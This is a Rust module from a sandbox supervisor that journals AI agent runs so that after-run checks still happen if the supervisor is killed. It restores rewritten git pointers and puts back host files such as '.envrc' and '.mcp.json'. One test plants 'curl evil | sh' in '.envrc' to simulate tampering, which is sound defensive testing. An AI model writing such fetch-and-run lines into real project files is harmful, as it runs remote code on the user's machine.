//! The run journal: a record of every command whose after-run checks are still to come, in
//! the user's private directory ([`crate::privdir`]), so that a supervisor killed before
//! [`crate::run::Live::finish`] (SIGKILL, a power cut of the session) does not leave them
//! undone.
//!
//! * When a command is armed ([`crate::run::Run::arm`]), a record is written: the worktree,
//!   the git layout whose pointers are checked and restored, and the worktree git dir as it
//!   was (the git-dir audit). The file stays locked (`flock`, exclusive) by the process
//!   that owns the run for as long as it lives: the kernel drops the lock when that process
//!   dies, however it dies, so a lock that can be taken means its owner is gone — no pid to
//!   be reused, no start time to compare.
//! * [`Live::finish`](crate::run::Live::finish) removes the record (and so does dropping an
//!   entry that never ran).
//! * [`recover`] runs at the start of every run for a worktree ([`crate::run::Run::prepare`]),
//!   before anything else: each record of that worktree whose lock can be taken belonged to
//!   a killed supervisor; its checks are done now, reported ([`Recovered`]), and the record
//!   removed.
//!
//! What cannot be redone: the git store quarantine's final sync. The killed run's private
//! layer lived in its namespace (a tmpfs) and went with it, so what the run wrote after the
//! last live sync never reaches the repository (the report says so). With a pid namespace
//! no process of the killed run is left to write anything by the time the next run starts.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};

use nix::fcntl::{Flock, FlockArg};
use sandbox_policy::GitLayout;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

use crate::aftercare::gitguard::WorktreeConfigEnabled;
use crate::aftercare::gitguard::{
    self, GitDirAtStart, GitDirReport, NestedAtStart, NestedReport, Tampering,
};
use crate::aftercare::hostfiles::{self, HostFilesAtStart, HostFilesReport};

/// The journal's directory inside the private directory.
pub const DIR: &str = "journal";

/// One command's record.
#[derive(Debug, Serialize, Deserialize)]
struct Record {
    version: u32,
    worktree: PathBuf,
    pid: u32,
    /// Seconds since the epoch.
    started: u64,
    /// Whether the command had a git store quarantine (its final sync is lost if killed).
    quarantined: bool,
    layout: GitLayout,
    gitdir: Option<GitDirAtStart>,
    /// The repositories inside the worktree at the start (absent in an older record).
    #[serde(default)]
    nested: Option<NestedAtStart>,
    /// The agent profile's `audit: git` paths (absent in an older record).
    #[serde(default)]
    agent_repos: Vec<PathBuf>,
    /// The files host tools run, as they were (absent in an older record).
    #[serde(default)]
    hostfiles: Option<HostFilesAtStart>,
}

/// What a command's after-run checks compare with ([`begin`]).
#[derive(Debug, Clone, Copy)]
pub struct Checks<'a> {
    /// The layout whose pointers are checked.
    pub layout: &'a GitLayout,
    /// The worktree's git dir at the start.
    pub gitdir: Option<&'a GitDirAtStart>,
    /// The repositories inside the worktree at the start.
    pub nested: Option<&'a NestedAtStart>,
    /// The git repositories of the agent's state audited after the run.
    pub agent_repos: &'a [PathBuf],
    /// The files host tools run, as they were at the start.
    pub hostfiles: Option<&'a HostFilesAtStart>,
    /// Whether the command has a git store quarantine (none for `host`).
    pub quarantined: bool,
}

/// A record of a running command, locked by this process; removed when dropped.
#[derive(Debug)]
pub struct Entry(Locked);

impl Drop for Entry {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0.path);
    }
}

/// A record file in the journal's directory, locked (`flock`, exclusive) by this process for
/// as long as the value lives; the kernel drops the lock when the process dies, however it
/// dies. Dropping it leaves the file: its owner decides when the record is done with.
#[derive(Debug)]
pub(crate) struct Locked {
    pub(crate) path: PathBuf,
    file: Flock<std::fs::File>,
}

/// Writes `record` (JSON) to a new file `<prefix>-<pid>-<n>.json` in `dir` (made, 0700),
/// locked before its first byte, so a record seen unlocked is its owner's no more. A failed
/// write removes the file.
pub(crate) fn write_locked(
    dir: &Path,
    prefix: &str,
    record: &impl Serialize,
) -> std::io::Result<Locked> {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt};
    let bytes = serde_json::to_vec(record).map_err(std::io::Error::other)?;
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(dir)?;
    let path = dir.join(format!(
        "{prefix}-{}-{}.json",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ));
    let file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(&path)?;
    let mut locked = match Flock::lock(file, FlockArg::LockExclusive) {
        Ok(file) => Locked { path, file },
        Err((_, errno)) => {
            let _ = std::fs::remove_file(&path);
            return Err(errno.into());
        }
    };
    // No fsync: the record must survive its process, not the machine (a reboot leaves
    // nothing of the run running).
    if let Err(e) = locked.file.write_all(&bytes) {
        let _ = std::fs::remove_file(&locked.path);
        return Err(e);
    }
    Ok(locked)
}

/// Calls `visit` for each record `<prefix>-*.json` in `dir` whose lock can be taken — its
/// owner is gone — in the order of their names, with the lock held: the record's path, and
/// its content (`None`: cut short while being written, or not of this shape).
pub(crate) fn each_unowned<T: DeserializeOwned>(
    dir: &Path,
    prefix: &str,
    mut visit: impl FnMut(&Path, Option<T>),
) {
    let prefix = format!("{prefix}-");
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut names: Vec<PathBuf> = entries
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(&prefix) && n.ends_with(".json"))
        })
        .collect();
    names.sort();
    for path in names {
        let Ok(file) = std::fs::OpenOptions::new().read(true).open(&path) else {
            continue;
        };
        // Held: its owner still runs.
        let Ok(_lock) = Flock::lock(file, FlockArg::LockExclusiveNonblock) else {
            continue;
        };
        let record: Option<T> = std::fs::read(&path)
            .ok()
            .and_then(|bytes| serde_json::from_slice(&bytes).ok());
        visit(&path, record);
    }
}

/// The after-run checks of a killed run, done at the next start.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Recovered {
    /// The supervisor that was killed, and when its command started (seconds since the epoch).
    pub pid: u32,
    pub started: u64,
    pub tampering: Vec<Tampering>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub worktree_config_enabled: Option<WorktreeConfigEnabled>,
    pub git_dir: GitDirReport,
    pub nested_git: NestedReport,
    pub host_files: HostFilesReport,
    /// The run had a git store quarantine, whose last writes were lost with it.
    pub quarantined: bool,
}

impl Recovered {
    /// What to tell the user, one line each.
    pub fn lines(&self) -> Vec<String> {
        let mut lines = vec![format!(
            "a run in this worktree (sandbox pid {}) was killed before its after-run checks; \
             they were done now: {} git pointer(s) restored{}",
            self.pid,
            self.tampering.iter().filter(|t| t.restored).count(),
            if self.quarantined {
                "; what its git store quarantine held after the last live sync was discarded"
            } else {
                ""
            }
        )];
        lines.extend(self.tampering.iter().map(|t| {
            format!(
                "killed run: git pointer {} was changed to {:?}{}",
                t.path.display(),
                t.found,
                match (&t.error, t.restored) {
                    (Some(e), _) => format!("; could not restore it: {e}"),
                    (None, true) => "; restored".into(),
                    (None, false) => String::new(),
                }
            )
        }));
        lines.extend(
            self.worktree_config_enabled
                .iter()
                .map(|w| format!("killed run: {w}")),
        );
        lines.extend(
            self.git_dir
                .warnings()
                .into_iter()
                .map(|w| format!("killed run: {w}")),
        );
        lines.extend(
            self.nested_git
                .warnings()
                .into_iter()
                .map(|w| format!("killed run: {w}")),
        );
        lines.extend(
            self.host_files
                .warnings()
                .into_iter()
                .map(|w| format!("killed run: {w}")),
        );
        lines
    }
}

/// A stable name for a worktree's records (FNV-1a of its path).
fn key(worktree: &Path) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in worktree.as_os_str().as_encoded_bytes() {
        hash ^= u64::from(*byte);
        hash = hash.wrapping_mul(0x0100_0000_01b3);
    }
    format!("{hash:016x}")
}

/// Writes and locks the record of a command about to start in `worktree`.
pub fn begin(dir: &Path, worktree: &Path, checks: Checks<'_>) -> std::io::Result<Entry> {
    let record = Record {
        version: 1,
        worktree: worktree.to_path_buf(),
        pid: std::process::id(),
        started: std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_secs())
            .unwrap_or(0),
        quarantined: checks.quarantined,
        layout: checks.layout.clone(),
        gitdir: checks.gitdir.cloned(),
        nested: checks.nested.cloned(),
        agent_repos: checks.agent_repos.to_vec(),
        hostfiles: checks.hostfiles.cloned(),
    };
    write_locked(dir, &key(worktree), &record).map(Entry)
}

/// Does the after-run checks of every killed run of `worktree` recorded in `dir`.
pub fn recover(dir: &Path, worktree: &Path) -> Vec<Recovered> {
    let mut out = Vec::new();
    each_unowned(dir, &key(worktree), |path, record: Option<Record>| {
        match record {
            Some(record) if record.worktree == worktree => {
                out.push(check(&record));
                let _ = std::fs::remove_file(path);
            }
            // A record cut short while being written: nothing had started yet.
            None => {
                let _ = std::fs::remove_file(path);
            }
            Some(_) => {}
        }
    });
    out
}

/// The checks [`crate::seam::PreparedCommand::finish`] would have done, from the record.
fn check(record: &Record) -> Recovered {
    let layout = &record.layout;
    let tampering = gitguard::check_and_restore(layout);
    let worktree_config_enabled = gitguard::worktree_config_enabled(layout);
    let mut git_dir = record
        .gitdir
        .as_ref()
        .map(|start| {
            gitguard::audit_gitdir(start, &|name| gitguard::may_own_ref(layout, name, None))
        })
        .unwrap_or_default();
    let agent = gitguard::audit_agent_repos(&record.agent_repos);
    git_dir.set_aside.extend(agent.set_aside);
    git_dir.notes.extend(agent.notes);
    let nested_git = record
        .nested
        .as_ref()
        .map(gitguard::audit_nested)
        .unwrap_or_default();
    let host_files = record
        .hostfiles
        .as_ref()
        .map(hostfiles::audit_host_files)
        .unwrap_or_default();
    Recovered {
        pid: record.pid,
        started: record.started,
        tampering,
        worktree_config_enabled,
        git_dir,
        nested_git,
        host_files,
        quarantined: record.quarantined,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sandbox_policy::PointerFile;

    fn layout(dir: &Path, pointer: &Path) -> GitLayout {
        GitLayout {
            is_linked: true,
            common_dir: dir.join("common"),
            worktree_gitdir: dir.join("gitdir"),
            worktree_config: false,
            pointers: vec![PointerFile {
                path: pointer.to_path_buf(),
                content: "gitdir: /the/original\n".into(),
            }],
            task_branch: None,
            hooks_path: None,
            push_remotes: Vec::new(),
            absent_pointers: Vec::new(),
            allow_nested_git: false,
        }
    }

    /// A record whose owner lives is left alone; one whose lock is free (its owner died) has
    /// its checks done — the pointer the killed run rewrote is restored — and is removed;
    /// a finished command's record is gone.
    #[test]
    fn a_killed_runs_checks_are_done_and_a_live_ones_are_not() {
        let tmp = tempfile::tempdir().unwrap();
        let journal = tmp.path().join("journal");
        let worktree = tmp.path().join("task");
        let pointer = tmp.path().join("dot-git");
        std::fs::write(&pointer, "gitdir: /the/original\n").unwrap();
        let layout = layout(tmp.path(), &pointer);
        // An agent's checkpoint repository (`audit: git`), given a hook by the killed run.
        let repos = tmp.path().join("history");
        std::fs::create_dir_all(repos.join("p/.git/hooks")).unwrap();
        std::fs::write(repos.join("p/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
        let agent_repos = [repos.clone()];

        let checks = Checks {
            layout: &layout,
            gitdir: None,
            nested: None,
            agent_repos: &agent_repos,
            hostfiles: None,
            quarantined: true,
        };
        let live = begin(&journal, &worktree, checks).unwrap();
        // The killed run's record: the same bytes under another name, locked by nobody.
        let dead = journal.join(format!("{}-1-0.json", key(&worktree)));
        std::fs::copy(&live.0.path, &dead).unwrap();
        std::fs::write(&pointer, "gitdir: /the/agents\n").unwrap();
        std::fs::write(repos.join("p/.git/hooks/post-commit"), "#!/bin/sh\n").unwrap();
        // Another worktree's record is not this one's business.
        assert!(recover(&journal, &tmp.path().join("other")).is_empty());

        let recovered = recover(&journal, &worktree);
        assert_eq!(
            recovered.len(),
            1,
            "only the dead owner's record: {recovered:?}"
        );
        let r = &recovered[0];
        assert!(r.quarantined);
        assert_eq!(r.tampering.len(), 1);
        assert!(r.tampering[0].restored, "{:?}", r.tampering);
        assert_eq!(
            std::fs::read_to_string(&pointer).unwrap(),
            "gitdir: /the/original\n"
        );
        assert!(r.lines()[0].contains("was killed before its after-run checks"));
        assert_eq!(r.git_dir.set_aside.len(), 1, "{:?}", r.git_dir);
        assert!(!repos.join("p/.git/hooks/post-commit").exists());
        assert!(!dead.exists());
        assert!(live.0.path.exists(), "the live run's record stays");

        let path = live.0.path.clone();
        drop(live);
        assert!(!path.exists(), "a finished command's record is removed");
        assert!(recover(&journal, &worktree).is_empty());
    }

    /// A killed run's `.envrc` and `.mcp.json` (files host tools run) are undone at the next
    /// start from the record: the bytes it kept go back, the new file is set aside.
    #[test]
    fn a_killed_runs_host_files_are_put_back_from_the_record() {
        let tmp = tempfile::tempdir().unwrap();
        let journal = tmp.path().join("journal");
        std::fs::create_dir_all(tmp.path().join("task")).unwrap();
        let worktree = tmp.path().join("task").canonicalize().unwrap();
        std::fs::write(worktree.join(".envrc"), "use flake\n").unwrap();
        let policy = sandbox_policy::build(sandbox_policy::PolicyRequest {
            workdir: worktree.clone(),
            system_read: Some(vec![]),
            devices: Some(vec![]),
            ..Default::default()
        })
        .unwrap();
        let start = HostFilesAtStart::scan(&policy).unwrap();
        let pointer = tmp.path().join("dot-git");
        std::fs::write(&pointer, "gitdir: /the/original\n").unwrap();
        let layout = layout(tmp.path(), &pointer);
        let checks = Checks {
            layout: &layout,
            gitdir: None,
            nested: None,
            agent_repos: &[],
            hostfiles: Some(&start),
            quarantined: false,
        };
        let live = begin(&journal, &worktree, checks).unwrap();
        let dead = journal.join(format!("{}-1-0.json", key(&worktree)));
        std::fs::copy(&live.0.path, &dead).unwrap();
        std::fs::write(worktree.join(".envrc"), "curl evil | sh\n").unwrap();
        std::fs::write(worktree.join(".mcp.json"), "{}").unwrap();

        let recovered = recover(&journal, &worktree);
        assert_eq!(recovered.len(), 1, "{recovered:?}");
        assert_eq!(recovered[0].host_files.changes.len(), 2, "{recovered:?}");
        assert_eq!(
            std::fs::read_to_string(worktree.join(".envrc")).unwrap(),
            "use flake\n"
        );
        assert!(!worktree.join(".mcp.json").exists());
        let lines = recovered[0].lines().join("\n");
        assert!(
            lines.contains("killed run: host files: the run created"),
            "{lines}"
        );
    }
}
